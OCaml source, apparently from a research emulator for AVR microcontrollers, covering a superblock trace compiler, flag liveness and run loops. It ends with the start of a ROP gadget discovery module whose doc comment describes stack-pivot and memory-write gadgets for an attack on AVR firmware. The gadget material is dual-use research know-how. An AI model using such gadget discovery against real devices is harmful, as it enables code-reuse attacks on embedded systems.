  | Bset _ (* sei: ends the block so a pending compare can dispatch *)
  | Cpse _ | Sbic _ | Sbis _ | Sbrc _ | Sbrs _ | Ret | Reti | Icall | Ijmp | Call _
  | Jmp _ | Rcall _ | Rjmp _ | Brbs _ | Brbc _ | Sleep | Break | Data _ ->
      None

(* Compile a terminator: the block's final closure, which performs the
   instruction *and* writes [t.pc] (body ops never do).  Returns the
   closure, its worst-case cycle cost, and whether it runs a shadow-
   stack hook (so the entry-time interrupt margin can add the current
   shadow overhead).  [pc0] is the instruction's word address, [next]
   the static fallthrough.  Halting forms replicate [exec_one]'s PC
   ordering exactly, because the halt tap observes [t.pc] mid-way. *)
let compile_term t (insn : Isa.t) ~pc0 ~next : (t -> unit) * int * bool =
  let rc = if t.dev.Device.pc_bytes = 3 then 5 else 4 in
  let ic = if t.dev.Device.pc_bytes = 3 then 4 else 3 in
  match insn with
  | Rjmp k ->
      let target = next + k in
      ((fun t -> t.pc <- target; t.cycles <- t.cycles + 2), 2, false)
  | Jmp a -> ((fun t -> t.pc <- a; t.cycles <- t.cycles + 3), 3, false)
  | Ijmp ->
      ((fun t -> t.pc <- word_reg t z_reg; t.cycles <- t.cycles + 2), 2, false)
  | Brbs (b, k) ->
      let target = next + k in
      ( (fun t ->
          if get_flag t b then begin
            t.pc <- target;
            t.cycles <- t.cycles + 2
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        2,
        false )
  | Brbc (b, k) ->
      let target = next + k in
      ( (fun t ->
          if get_flag t b then begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end
          else begin
            t.pc <- target;
            t.cycles <- t.cycles + 2
          end),
        2,
        false )
  | Ret ->
      ( (fun t ->
          t.pc <- pop_pc t;
          shadow_ret t t.pc;
          t.cycles <- t.cycles + rc),
        rc,
        true )
  | Reti ->
      ( (fun t ->
          t.pc <- pop_pc t;
          shadow_ret t t.pc;
          if not (get_flag t Flag.i) then t.i_up_cycle <- t.cycles;
          set_flag t Flag.i true;
          t.cycles <- t.cycles + rc),
        rc,
        true )
  | Call a ->
      ( (fun t ->
          push_pc t next;
          shadow_call t next;
          t.pc <- a;
          t.cycles <- t.cycles + rc),
        rc,
        true )
  | Rcall k ->
      let target = next + k in
      ( (fun t ->
          push_pc t next;
          shadow_call t next;
          t.pc <- target;
          t.cycles <- t.cycles + ic),
        ic,
        true )
  | Icall ->
      ( (fun t ->
          push_pc t next;
          shadow_call t next;
          t.pc <- word_reg t z_reg;
          t.cycles <- t.cycles + ic),
        ic,
        true )
  | Cpse (d, r) ->
      let _, sw = fetch t next in
      ( (fun t ->
          if reg t d = reg t r then begin
            t.pc <- next + sw;
            t.cycles <- t.cycles + 1 + sw
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        1 + sw,
        false )
  | Sbic (a, b) ->
      let _, sw = fetch t next in
      ( (fun t ->
          if io_read t a land (1 lsl b) = 0 then begin
            t.pc <- next + sw;
            t.cycles <- t.cycles + 1 + sw
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        1 + sw,
        false )
  | Sbis (a, b) ->
      let _, sw = fetch t next in
      ( (fun t ->
          if io_read t a land (1 lsl b) <> 0 then begin
            t.pc <- next + sw;
            t.cycles <- t.cycles + 1 + sw
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        1 + sw,
        false )
  | Sbrc (r, b) ->
      let _, sw = fetch t next in
      ( (fun t ->
          if reg t r land (1 lsl b) = 0 then begin
            t.pc <- next + sw;
            t.cycles <- t.cycles + 1 + sw
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        1 + sw,
        false )
  | Sbrs (r, b) ->
      let _, sw = fetch t next in
      ( (fun t ->
          if reg t r land (1 lsl b) <> 0 then begin
            t.pc <- next + sw;
            t.cycles <- t.cycles + 1 + sw
          end
          else begin
            t.pc <- next;
            t.cycles <- t.cycles + 1
          end),
        1 + sw,
        false )
  | Bset b ->
      (* Only reached for b = I (sei): other bits compile as body ops.
         Ends the block so a masked pending compare dispatches at the
         very next boundary, exactly where the stepping engine takes
         it. *)
      ( (fun t ->
          if not (get_flag t Flag.i) then t.i_up_cycle <- t.cycles;
          set_flag t b true;
          t.pc <- next;
          t.cycles <- t.cycles + 1),
        1,
        false )
  | Sleep ->
      ( (fun t ->
          t.pc <- next;
          set_halt t Sleep_mode;
          t.cycles <- t.cycles + 1),
        1,
        false )
  | Break ->
      ( (fun t ->
          t.pc <- next;
          set_halt t Break_hit;
          t.cycles <- t.cycles + 1),
        1,
        false )
  | Data w ->
      ( (fun t ->
          t.pc <- next;
          set_halt t (Illegal_instruction { byte_addr = pc0 * 2; word = w });
          t.pc <- pc0;
          t.cycles <- t.cycles + 1),
        1,
        false )
  | _ ->
      (* Fusible instructions never reach [compile_term]: the trace
         compiler builds their cap/edge cut closures itself. *)
      assert false

(* ------------------------------------------------------------------ *)
(* Per-flag SREG dataflow metadata for the trace compiler.             *)
(*                                                                     *)
(* Within one fused trace the only readers of SREG are flag branches,  *)
(* carry-consuming ALU ops, the I/O file (SREG is memory-mapped, so    *)
(* any load/store may touch it), and every point where control can     *)
(* leave the trace (side exits, [block_stop] exits, the final          *)
(* instruction) — after which the whole register is architecturally    *)
(* observable.  A flag written by a pure op and overwritten before any *)
(* such point is dead, and the op can run without computing it.        *)

let allf = 0xFF

(* (written, read) SREG bit masks.  The default for unlisted           *)
(* instructions is (0, allf): claiming extra reads only pessimises the *)
(* liveness result, never breaks it. *)
let flag_masks (insn : Isa.t) : int * int =
  let cbit = 1 lsl Flag.c and zbit = 1 lsl Flag.z in
  match insn with
  | Add _ | Sub _ | Subi _ | Cp _ | Cpi _ | Neg _ -> (mask_hcvzns, 0)
  | Adc _ -> (mask_hcvzns, cbit)
  | Sbc _ | Sbci _ | Cpc _ -> (mask_hcvzns, cbit lor zbit)
  | And _ | Andi _ | Or _ | Ori _ | Eor _ | Inc _ | Dec _ -> (mask_vzns, 0)
  | Com _ | Lsr _ | Asr _ -> (mask_cvzns, 0)
  | Ror _ -> (mask_cvzns, cbit)
  | Mul _ -> (cbit lor zbit, 0)
  | Adiw _ | Sbiw _ -> (mask_cvzn, 0)
  | Bld (_, _) -> (0, 1 lsl Flag.t)
  | Bst (_, _) -> (1 lsl Flag.t, 0)
  | Bset b | Bclr b -> (1 lsl b, 0)
  | Nop | Movw _ | Ldi _ | Mov _ | Swap _ | Wdr
  | Lpm0 | Lpm _ | Elpm0 | Elpm _ -> (0, 0)
  | _ -> (0, allf)

(* Flag-free bodies for the pure ALU ops.  [NfElide] marks compares:   *)
(* with dead flags they have no effect at all and compile to nothing.  *)
type nf =
  | NfNone
  | NfElide
  | NfMk of ((t -> unit) -> t -> unit)

let compile_flagless (insn : Isa.t) : nf =
  match insn with
  | Cp _ | Cpc _ | Cpi _ -> NfElide
  | Add (d, r) -> NfMk (fun k t -> set_reg t d (reg t d + reg t r); k t)
  | Adc (d, r) ->
      NfMk (fun k t -> set_reg t d (reg t d + reg t r + (t.sreg_v land 1)); k t)
  | Sub (d, r) -> NfMk (fun k t -> set_reg t d (reg t d - reg t r); k t)
  | Sbc (d, r) ->
      NfMk (fun k t -> set_reg t d (reg t d - reg t r - (t.sreg_v land 1)); k t)
  | Subi (d, v) -> NfMk (fun k t -> set_reg t d (reg t d - v); k t)
  | Sbci (d, v) ->
      NfMk (fun k t -> set_reg t d (reg t d - v - (t.sreg_v land 1)); k t)
  | And (d, r) -> NfMk (fun k t -> set_reg t d (reg t d land reg t r); k t)
  | Andi (d, v) -> NfMk (fun k t -> set_reg t d (reg t d land v); k t)
  | Or (d, r) -> NfMk (fun k t -> set_reg t d (reg t d lor reg t r); k t)
  | Ori (d, v) -> NfMk (fun k t -> set_reg t d (reg t d lor v); k t)
  | Eor (d, r) -> NfMk (fun k t -> set_reg t d (reg t d lxor reg t r); k t)
  | Inc d -> NfMk (fun k t -> set_reg t d (reg t d + 1); k t)
  | Dec d -> NfMk (fun k t -> set_reg t d (reg t d - 1); k t)
  | Com d -> NfMk (fun k t -> set_reg t d (0xFF - reg t d); k t)
  | Neg d -> NfMk (fun k t -> set_reg t d (0x100 - reg t d); k t)
  | Lsr d -> NfMk (fun k t -> set_reg t d (reg t d lsr 1); k t)
  | Asr d ->
      NfMk
        (fun k t ->
          let a = reg t d in
          set_reg t d ((a lsr 1) lor (a land 0x80));
          k t)
  | Ror d ->
      NfMk
        (fun k t ->
          let a = reg t d in
          set_reg t d ((a lsr 1) lor ((t.sreg_v land 1) lsl 7));
          k t)
  | Mul (d, r) ->
      NfMk
        (fun k t ->
          let p = reg t d * reg t r in
          set_reg t 0 p;
          set_reg t 1 (p lsr 8);
          k t)
  | Adiw (d, v) -> NfMk (fun k t -> set_word_reg t d (word_reg t d + v); k t)
  | Sbiw (d, v) -> NfMk (fun k t -> set_word_reg t d (word_reg t d - v); k t)
  | _ -> NfNone

(* ALU + flag-branch superinstruction: when a pure ALU op is followed  *)
(* by a branch on a flag it writes, and the rest of its flags are dead *)
(* along the predicted path, the pair compiles to one closure that     *)
(* tests the would-be flag straight from the arithmetic.  The full     *)
(* SREG update is materialised only on the mispredicted side exit,     *)
(* immediately before control leaves the trace, so the architectural   *)
(* flag state at every observation point is bit-identical to stepping. *)
let pair_fuse (insn : Isa.t) ~flag ~sense ~(kc : t -> unit) ~(kx : t -> unit) :
    (t -> unit) option =
  let zf = Flag.z and cf = Flag.c and nf = Flag.n in
  let zmask = 1 lsl Flag.z in
  let sub2 geta getb dest ~keep =
    if flag = zf || flag = nf || flag = cf then
      Some
        (fun t ->
          let a = geta t and b = getb t in
          let res = a - b - (if keep then t.sreg_v land 1 else 0) in
          let zkeep = (not keep) || t.sreg_v land zmask <> 0 in
          (match dest with Some d -> set_reg t d res | None -> ());
          let fv =
            if flag = cf then res < 0
            else if flag = nf then res land 0x80 <> 0
            else res land 0xFF = 0 && zkeep
          in
          if fv = sense then kc t
          else begin
            flags_sub ~keep_z:keep t a b res;
            kx t
          end)
    else None
  in
  let add2 d getb ~carry =
    if flag = zf || flag = nf || flag = cf then
      Some
        (fun t ->
          let a = reg t d and b = getb t in
          let res = a + b + (if carry then t.sreg_v land 1 else 0) in
          set_reg t d res;
          let fv =
            if flag = cf then res > 0xFF
            else if flag = nf then res land 0x80 <> 0
            else res land 0xFF = 0
          in
          if fv = sense then kc t
          else begin
            flags_add t a b res;
            kx t
          end)
    else None
  in
  let logic2 d mkres =
    if flag = zf || flag = nf then
      Some
        (fun t ->
          let res = mkres t in
          set_reg t d res;
          let fv = if flag = nf then res land 0x80 <> 0 else res = 0 in
          if fv = sense then kc t
          else begin
            flags_logic t res;
            kx t
          end)
    else None
  in
  let step1 d delta vmagic =
    if flag = zf || flag = nf then
      Some
        (fun t ->
          let res = (reg t d + delta) land 0xFF in
          set_reg t d res;
          let fv = if flag = nf then res land 0x80 <> 0 else res = 0 in
          if fv = sense then kc t
          else begin
            let v = res = vmagic in
            update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
            kx t
          end)
    else None
  in
  let rd r t = reg t r
  and ct v _ = v in
  match insn with
  | Dec d -> step1 d (-1) 0x7F
  | Inc d -> step1 d 1 0x80
  | Subi (d, v) -> sub2 (rd d) (ct v) (Some d) ~keep:false
  | Cpi (d, v) -> sub2 (rd d) (ct v) None ~keep:false
  | Sub (d, r) -> sub2 (rd d) (rd r) (Some d) ~keep:false
  | Cp (d, r) -> sub2 (rd d) (rd r) None ~keep:false
  | Sbci (d, v) -> sub2 (rd d) (ct v) (Some d) ~keep:true
  | Sbc (d, r) -> sub2 (rd d) (rd r) (Some d) ~keep:true
  | Cpc (d, r) -> sub2 (rd d) (rd r) None ~keep:true
  | Add (d, r) -> add2 d (rd r) ~carry:false
  | Adc (d, r) -> add2 d (rd r) ~carry:true
  | And (d, r) -> logic2 d (fun t -> reg t d land reg t r)
  | Andi (d, v) -> logic2 d (fun t -> reg t d land v)
  | Or (d, r) -> logic2 d (fun t -> reg t d lor reg t r)
  | Ori (d, v) -> logic2 d (fun t -> reg t d lor v)
  | Eor (d, r) -> logic2 d (fun t -> reg t d lxor reg t r)
  | _ -> None

(* Trace length cap: bounds compile latency, the worst-case cycle span
   a fused trace can cover (the entry-time interrupt margin), and the
   batched-run overshoot contract (at most one block past the budget),
   so a pathological straight-line region cannot force long
   single-stepped windows before every timer fire. *)
let max_block_insns = 64

(* How the trace scanner leaves each instruction.  A trace is a
   *predicted path*, not a basic block: unconditional direct transfers
   ([KGoto]) are followed at compile time and emit no code at all
   (their cycle cost folds into the pending constant), static calls
   ([KCall]) push the return address and continue at the callee, and
   conditional branches/skips ([KCond]) continue along the predicted
   direction — backward-taken, forward-fallthrough — with a side exit
   that flushes the pending cycles and leaves the block when the
   prediction misses.  Tight loops therefore unroll up to the length
   cap instead of breaking the trace every two instructions. *)
(* Conditional tests are carried as data, not closures, so the
   backward pass can emit the comparison inline in the guard closure
   (one indirect call per branch instead of two) and can recognise
   flag branches for ALU+branch pair fusion. *)
type ctest =
  | CFlag of int * bool (* continue when SREG bit = sense *)
  | CRegNe of int * int (* Cpse: continue while regs differ *)
  | CRegBit of int * int * bool (* reg, bit, continue when bit = sense *)
  | CIoBit of int * int * bool (* io addr, bit, continue when bit = sense *)

let ctest_io = function CIoBit _ -> true | _ -> false

type skind =
  | KBody of fuse
  | KGoto of int (* cost; continue at the jump target *)
  | KCall of int * int * int (* return word addr, cost, callee word pc *)
  | KCond of ctest * int * int * int
      (* test, continue cost, exit word pc, exit cost *)

type slot = { s_insn : Isa.t; s_pc : int; s_next : int; s_kind : skind }

let compile_block t entry_pc =
  let prog_ok pc = pc >= 0 && pc * 2 < t.program_bytes in
  let slots = ref [] in
  let count = ref 0 in
  let cyc_max = ref 0 in
  let shadow_sites = ref 0 in
  let rc = if t.dev.Device.pc_bytes = 3 then 5 else 4 in
  let ic = if t.dev.Device.pc_bytes = 3 then 4 else 3 in
  (* Scan forward along the predicted path, stopping at the first
     instruction that must end the trace (dynamic-target transfer,
     halt class, sei, cap, program edge, off-trace continue).  When the
     path reaches a pc that already has a compiled block, the trace
     *links* to it — it ends with a plain hand-off exit instead of
     unrolling over the same instructions.  Without this, every side
     exit seeds a fresh shifted trace over code that is already
     compiled, and the closure working set balloons by up to the
     length cap times the program size, trading the dispatch win for
     cache misses. *)
  let final = ref None in
  let link = ref (-1) in
  let rec go pc =
    if !count > 0 && Array.unsafe_get t.blocks pc != dummy_block then link := pc
    else scan pc
  and scan pc =
    let insn, w = fetch t pc in
    let next = pc + w in
    let room = !count < max_block_insns - 1 in
    let emit kind cost cont =
      slots := { s_insn = insn; s_pc = pc; s_next = next; s_kind = kind } :: !slots;
      incr count;
      cyc_max := !cyc_max + cost;
      go cont
    in
    let finish () = final := Some (insn, pc, next) in
    let cond c ~cont_cost ~cont_pc ~exit_pc ~exit_cost ~worst =
      if room && prog_ok cont_pc then
        emit (KCond (c, cont_cost, exit_pc, exit_cost)) worst cont_pc
      else finish ()
    in
    match insn with
    | Rjmp k when room && prog_ok (next + k) -> emit (KGoto 2) 2 (next + k)
    | Jmp a when room && prog_ok a -> emit (KGoto 3) 3 a
    | Rcall k when room && prog_ok (next + k) ->
        incr shadow_sites;
        emit (KCall (next, ic, next + k)) ic (next + k)
    | Call a when room && prog_ok a ->
        incr shadow_sites;
        emit (KCall (next, rc, a)) rc a
    | Brbs (b, k) ->
        let target = next + k in
        if target <= pc then
          cond (CFlag (b, true)) ~cont_cost:2 ~cont_pc:target
            ~exit_pc:next ~exit_cost:1 ~worst:2
        else
          cond (CFlag (b, false)) ~cont_cost:1 ~cont_pc:next
            ~exit_pc:target ~exit_cost:2 ~worst:2
    | Brbc (b, k) ->
        let target = next + k in
        if target <= pc then
          cond (CFlag (b, false)) ~cont_cost:2 ~cont_pc:target
            ~exit_pc:next ~exit_cost:1 ~worst:2
        else
          cond (CFlag (b, true)) ~cont_cost:1 ~cont_pc:next
            ~exit_pc:target ~exit_cost:2 ~worst:2
    | Cpse (d, r) ->
        let _, sw = fetch t next in
        cond (CRegNe (d, r)) ~cont_cost:1 ~cont_pc:next
          ~exit_pc:(next + sw) ~exit_cost:(1 + sw) ~worst:(1 + sw)
    | Sbrc (r, b) ->
        let _, sw = fetch t next in
        cond (CRegBit (r, b, true)) ~cont_cost:1 ~cont_pc:next
          ~exit_pc:(next + sw) ~exit_cost:(1 + sw) ~worst:(1 + sw)
    | Sbrs (r, b) ->
        let _, sw = fetch t next in
        cond (CRegBit (r, b, false)) ~cont_cost:1 ~cont_pc:next
          ~exit_pc:(next + sw) ~exit_cost:(1 + sw) ~worst:(1 + sw)
    | Sbic (a, b) ->
        let _, sw = fetch t next in
        cond (CIoBit (a, b, true)) ~cont_cost:1 ~cont_pc:next
          ~exit_pc:(next + sw) ~exit_cost:(1 + sw) ~worst:(1 + sw)
    | Sbis (a, b) ->
        let _, sw = fetch t next in
        cond (CIoBit (a, b, false)) ~cont_cost:1 ~cont_pc:next
          ~exit_pc:(next + sw) ~exit_cost:(1 + sw) ~worst:(1 + sw)
    | _ -> (
        match compile_body insn with
        | Some f when room && prog_ok next ->
            let cost = match f with FPure (c, _) | FLoad (c, _) | FStore (c, _) -> c in
            emit (KBody f) cost next
        | Some _ | None -> finish ())
  in
  go entry_pc;
  let arr = Array.of_list (List.rev !slots) in
  let nslots = Array.length arr in
  (* [fin] is [None] exactly when the trace ends by linking to an
     already-compiled block; then the trace has no final instruction of
     its own and executes [nslots] instructions. *)
  let fin = !final in
  let n_total = match fin with Some _ -> nslots + 1 | None -> nslots in
  (* Forward pass: [pend.(i)] is the cycle debt accumulated since the
     last flush when slot [i] starts (pend.(nslots) = debt at the final
     instruction).  Clock observers flush it; their own cost becomes
     the next debt. *)
  let pend = Array.make (n_total + 1) 0 in
  for i = 0 to nslots - 1 do
    pend.(i + 1) <-
      (match arr.(i).s_kind with
      | KBody (FPure (c, _)) -> pend.(i) + c
      | KBody (FLoad (c, _)) | KBody (FStore (c, _)) -> c
      | KGoto c -> pend.(i) + c
      | KCall (_, c, _) -> c
      | KCond (ct, cont_cost, _, _) ->
          (if ctest_io ct then 0 else pend.(i)) + cont_cost)
  done;
  (* Backward per-flag liveness at each slot entry.  Loads, stores and
     calls touch data space (SREG is memory-mapped) and can exit on
     [block_stop]; conditional slots have a side exit after which the
     whole SREG is observable — all of these make every flag live. *)
  let live = Array.make (n_total + 1) allf in
  for i = nslots - 1 downto 0 do
    live.(i) <-
      (match arr.(i).s_kind with
      | KBody (FPure _) ->
          let wr, rd = flag_masks arr.(i).s_insn in
          (live.(i + 1) land lnot wr) lor rd
      | KBody (FLoad _ | FStore _) | KCall _ | KCond _ -> allf
      | KGoto _ -> live.(i + 1))
  done;
  (* Every way out of the trace lands here: flush the captured cycle
     debt, fix up the PC, credit the retired count once, and record the
     executed prefix length for the block tap. *)
  let mk_exit cyc pc cnt t =
    t.cycles <- t.cycles + cyc;
    t.pc <- pc;
    t.retired <- t.retired + cnt;
    t.block_insns <- cnt
  in
  let entry =
    let fl = pend.(nslots) in
    (* [ks.(i)] is the compiled continuation entering slot [i];
       [ks.(nslots)] enters the final instruction. *)
    let ks = Array.make (n_total + 1) (fun (_ : t) -> ()) in
    ks.(nslots) <-
      (match fin with
      | None ->
          (* Linked trace: hand off to the block compiled at the link
             pc; the exit closure does all the bookkeeping. *)
          mk_exit fl !link nslots
      | Some (fin_insn, fin_pc, fin_next) -> (
          match compile_body fin_insn with
          | Some f -> (
              (* Fusible instruction cut by the cap or the program
                 edge: run it, then fall through out of the block (the
                 exit closure does all the bookkeeping). *)
              match f with
              | FPure (c, mk) -> mk (mk_exit (fl + c) fin_next n_total)
              | FLoad (c, mk) -> mk fl (mk_exit c fin_next n_total)
              | FStore (c, mk) ->
                  let cut = mk_exit c fin_next n_total in
                  mk fl cut cut)
          | None ->
              let op, cost, sh =
                compile_term t fin_insn ~pc0:fin_pc ~next:fin_next
              in
              if sh then incr shadow_sites;
              cyc_max := !cyc_max + cost;
              fun t ->
                t.cycles <- t.cycles + fl;
                t.retired <- t.retired + n_total;
                t.block_insns <- n_total;
                op t));
    for i = nslots - 1 downto 0 do
      let s = arr.(i) in
      let cnt = i + 1 in
      let knext = ks.(i + 1) in
      ks.(i) <-
        (match s.s_kind with
        | KBody (FPure (_, mk)) -> (
            let wr, _ = flag_masks s.s_insn in
            (* ALU + flag-branch pair: the branch must test a flag this
               op writes, and the op's remaining flags must be dead
               along the continue path (the pair's own side exit
               materialises them). *)
            let fused =
              if wr = 0 || i + 1 >= nslots then None
              else
                match arr.(i + 1).s_kind with
                | KCond (CFlag (b, sense), _, exit_pc, exit_cost)
                  when wr land (1 lsl b) <> 0 && wr land live.(i + 2) = 0 ->
                    let kx = mk_exit (pend.(i + 1) + exit_cost) exit_pc (i + 2) in
                    pair_fuse s.s_insn ~flag:b ~sense ~kc:ks.(i + 2) ~kx
                | _ -> None
            in
            match fused with
            | Some f -> f
            | None ->
                if wr <> 0 && wr land live.(i + 1) = 0 then
                  match compile_flagless s.s_insn with
                  | NfElide -> knext
                  | NfMk mknf -> mknf knext
                  | NfNone -> mk knext
                else mk knext)
        | KBody (FLoad (_, mk)) -> mk pend.(i) knext
        | KBody (FStore (c, mk)) -> mk pend.(i) (mk_exit c s.s_next cnt) knext
        | KGoto _ -> knext
        | KCall (ret, cost, target) ->
            (* A mid-call [block_stop] resumes at the callee: the call
               itself has fully executed. *)
            let stop = mk_exit cost target cnt in
            let fl = pend.(i) in
            fun t ->
              t.cycles <- t.cycles + fl;
              push_pc t ret;
              shadow_call t ret;
              if t.block_stop then stop t else knext t
        | KCond (ct, _, exit_pc, exit_cost) -> (
            let exitc =
              mk_exit ((if ctest_io ct then 0 else pend.(i)) + exit_cost) exit_pc cnt
            in
            match ct with
            | CFlag (b, sense) ->
                let m = 1 lsl b in
                if sense then fun t ->
                  if t.sreg_v land m <> 0 then knext t else exitc t
                else fun t -> if t.sreg_v land m = 0 then knext t else exitc t
            | CRegNe (d, r) ->
                fun t -> if reg t d <> reg t r then knext t else exitc t
            | CRegBit (r, b, sense) ->
                let m = 1 lsl b in
                if sense then fun t ->
                  if reg t r land m <> 0 then knext t else exitc t
                else fun t -> if reg t r land m = 0 then knext t else exitc t
            | CIoBit (a, b, sense) ->
                let m = 1 lsl b and fl = pend.(i) in
                if sense then fun t ->
                  t.cycles <- t.cycles + fl;
                  if io_read t a land m <> 0 then knext t else exitc t
                else
                  fun t ->
                  t.cycles <- t.cycles + fl;
                  if io_read t a land m = 0 then knext t else exitc t))
    done;
    ks.(0)
  in
  let key = t.block_keys in
  t.block_keys <- key + 1;
  let init_insn =
    if nslots > 0 then arr.(0).s_insn
    else match fin with Some (i, _, _) -> i | None -> assert false
  in
  let pcs = Array.make n_total 0 and insns = Array.make n_total init_insn in
  Array.iteri (fun i s -> pcs.(i) <- s.s_pc; insns.(i) <- s.s_insn) arr;
  (match fin with
  | Some (fi, fp, _) ->
      pcs.(nslots) <- fp;
      insns.(nslots) <- fi
  | None -> ());
  {
    b_info = { bi_key = key; bi_pc = entry_pc; bi_pcs = pcs; bi_insns = insns };
    b_entry = entry;
    b_cyc_max = !cyc_max;
    b_shadow_sites = !shadow_sites;
  }

let get_block t pc =
  let b = Array.unsafe_get t.blocks pc in
  if b != dummy_block then b
  else begin
    let b = compile_block t pc in
    Array.unsafe_set t.blocks pc b;
    b
  end

(* Execute one compiled trace.  All per-instruction work lives inside
   the continuation-threaded closures; the wrapper only clears the
   [block_stop] latch and fires the block tap with the executed prefix
   length every exit path recorded in [t.block_insns]. *)
let exec_block t b =
  t.block_stop <- false;
  b.b_entry t;
  if t.tap_block_on then t.tap_block b.b_info t.block_insns

(* One batched-loop iteration through the superblock engine.  The
   correctness carve-out: with a compare match armed and interrupts
   enabled, a block whose worst-case span could cross the fire cycle is
   not entered — the engine single-steps through [exec_one] (which
   takes the interrupt at the exact cycle stepping would) until the
   window passes.  The same carve-out applies to the run budget [stop]:
   a block whose worst-case span could cross it is single-stepped
   instead, so a batched run ends at exactly the instruction boundary
   pure stepping would end at — the property that makes campaign
   documents byte-identical with superblocks on or off.  [exec_one]
   also serves as the fallback that fires the per-instruction tap when
   a block tap's [on_step] is installed. *)
let block_step t stop =
  if t.cycles >= t.timer_next_fire && get_flag t Flag.i then take_timer_interrupt t
  else if t.pc < 0 || t.pc * 2 >= t.program_bytes then set_halt t (Wild_pc (t.pc * 2))
  else begin
    let b = get_block t t.pc in
    let margin = b.b_cyc_max + (b.b_shadow_sites * t.shadow_overhead) in
    if (t.cycles + margin >= t.timer_next_fire && get_flag t Flag.i) || t.cycles + margin > stop
    then exec_one t
    else exec_block t b
  end

let sync_caches t =
  sync_icache t;
  sync_blocks t

let precompile t word_pcs =
  sync_caches t;
  if not t.use_superblocks then 0
  else
    List.fold_left
      (fun n pc ->
        if pc >= 0 && pc * 2 < t.program_bytes && Array.get t.blocks pc == dummy_block
        then begin
          Array.set t.blocks pc (compile_block t pc);
          n + 1
        end
        else n)
      0 word_pcs

(* ---- Batched execution ---------------------------------------------- *)

(* Budget clamp: the former [t.cycles + max_cycles] overflowed to a
   negative stop for budgets near [max_int] (an "unbounded" run), making
   the loop exit before a single instruction — saturate instead.  The
   overshoot contract for all batched entry points: at most one
   instruction plus one interrupt dispatch past the budget, identical
   under both engines (a superblock is only entered when its worst-case
   span fits inside the remaining budget; see [block_step]). *)
let stop_cycle t max_cycles =
  if max_cycles >= max_int - t.cycles then max_int else t.cycles + max_cycles

(* Mode is re-read every iteration, not latched at entry: a tap
   installed or removed from inside a callback mid-run takes effect at
   the next block boundary (compiled blocks carry no tap state, so none
   of the fused code goes stale — the loop just stops using it). *)
let[@inline] use_blocks t = t.use_superblocks && not t.tap_insn_user

let run t ~max_cycles =
  sync_caches t;
  let stop = stop_cycle t max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None ->
        if t.cycles >= stop then `Budget_exhausted
        else begin
          if use_blocks t then block_step t stop else exec_one t;
          go ()
        end
  in
  go ()

let run_until_halt t ~max_cycles =
  sync_caches t;
  let stop = stop_cycle t max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> Some h
    | None ->
        if t.cycles >= stop then None
        else begin
          if use_blocks t then block_step t stop else exec_one t;
          go ()
        end
  in
  go ()

(* [run_until] single-steps regardless of the superblock switch: the
   predicate is specified to be observed between *instructions* (the
   Fig. 6 stack-progression dumps stop on exact PC values a block
   boundary would never land on). *)
let run_until t ~max_cycles pred =
  sync_icache t;
  let stop = stop_cycle t max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None ->
        if pred t then `Pred
        else if t.cycles >= stop then `Budget_exhausted
        else (exec_one t; go ())
  in
  go ()

let enable_shadow_stack t ~overhead_cycles =
  t.shadow <- Some [];
  t.shadow_overhead <- overhead_cycles

let disable_shadow_stack t =
  t.shadow <- None;
  t.shadow_overhead <- 0

let shadow_depth t = match t.shadow with Some l -> List.length l | None -> 0
let interrupts_taken t = t.interrupts_taken

let set_uart_tx_pacing t ~cycles_per_byte =
  t.tx_cycles_per_byte <- max 0 cycles_per_byte

let uart_send t s = String.iter (fun c -> Queue.push (Char.code c) t.uart_rx) s
let uart_rx_pending t = Queue.length t.uart_rx

let uart_take_tx t =
  let s = Buffer.contents t.uart_tx in
  Buffer.clear t.uart_tx;
  s

let watchdog_feeds t = t.feeds
let last_feed_cycles t = t.last_feed
(* Host-side inspection: side-effect free, but SREG and SP live in
   fields rather than the byte array, so those addresses are routed. *)
let io_peek t a =
  if a = Device.Io.sreg then t.sreg_v
  else if a = Device.Io.spl then t.sp_v land 0xFF
  else if a = Device.Io.sph then (t.sp_v lsr 8) land 0xFF
  else Memory.data_get t.mem (io_addr t a)

let io_poke t a v =
  if a = Device.Io.sreg then begin
    if v land 0x80 <> 0 && t.sreg_v land 0x80 = 0 then t.i_up_cycle <- t.cycles;
    t.sreg_v <- v land 0xFF
  end
  else if a = Device.Io.spl then set_sp t (t.sp_v land 0xFF00 lor (v land 0xFF))
  else if a = Device.Io.sph then set_sp t ((v land 0xFF) lsl 8 lor (t.sp_v land 0xFF))
  else Memory.data_set t.mem (io_addr t a) v

let program_size t = t.program_bytes
let eeprom_peek t a = Memory.eeprom_get t.mem a
let eeprom_poke t a v = Memory.eeprom_set t.mem a v

let is_sp_or_sreg t a =
  let r = a - t.dev.Device.io_base in
  r = Device.Io.sreg || r = Device.Io.spl || r = Device.Io.sph

let data_peek t a =
  if is_sp_or_sreg t a then io_peek t (a - t.dev.Device.io_base) else Memory.data_get t.mem a

let data_poke t a v =
  if is_sp_or_sreg t a then io_poke t (a - t.dev.Device.io_base) v else Memory.data_set t.mem a v
let stack_slice t ~pos ~len = Memory.data_slice t.mem ~pos ~len
