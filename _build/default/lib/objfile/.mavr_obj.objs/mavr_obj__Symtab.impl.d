lib/objfile/symtab.ml: Buffer Char Ihex Image List Printf String
