(** ROP gadget discovery over AVR flash images (§IV, §VII-A).

    A gadget is a short instruction sequence ending in [ret], reached by
    placing its address on the stack.  AVR instructions are 16-bit-word
    aligned, so the scan is a forward linear sweep; every decodable suffix
    of at most [max_len] instructions ending at a [ret] and containing at
    least one useful operation counts as a gadget (the metric behind the
    paper's "953 gadgets" figure).

    The two gadget classes the stealthy attack needs are recognized
    structurally:
    - {e stk_move} (Fig. 4): writes both stack-pointer I/O registers
      ([out 0x3d]/[out 0x3e]) before returning — a stack pivot;
    - {e write_mem} (Fig. 5): [std Y+q] stores followed by a pop run — an
      arbitrary 3-byte memory write with register reload. *)

type kind =
  | Stk_move  (** writes SPL and SPH via [out] *)
